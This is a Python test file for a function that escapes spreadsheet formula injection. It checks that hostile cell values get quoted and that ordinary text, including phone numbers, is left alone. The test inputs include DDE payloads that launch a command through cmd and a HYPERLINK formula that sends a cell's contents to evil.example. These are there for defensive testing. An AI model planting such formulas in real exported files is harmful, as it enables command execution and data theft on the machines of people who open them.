"""No text becomes a formula of a spreadsheet; what people usually write stays as it is."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from c2c_frappe.pbx.formula_escaping import escape


@pytest.mark.parametrize(
	"text",
	[
		"=cmd|' /C calc'!A0",
		"+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0",
		"- 1 +cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		'=HYPERLINK("https://evil.example?"&A1,"See")',
		"\t=1+1",
		"\r\n@x",
		" =1+1",
		"+1\n+HYPERLINK(A1)",
	],
)
def test_a_formula_is_quoted_once(text):
	assert escape(text) == f"'{text}"
	assert escape(escape(text)) == escape(text)


@pytest.mark.parametrize(
	"text",
	[
		"",
		None,
		"Wants a quote (soon)!",
		"+44 7700 900123",
		"+44 (0)20 7946 0018",
		"+44XXXXXX",
		"- calls back",
		"a = b",
		"'",
	],
)
def test_what_is_no_formula_stays(text):
	assert escape(text) == text


@given(st.text())
def test_nothing_is_lost(text):
	assert escape(text).removeprefix("'") == text.removeprefix("'")
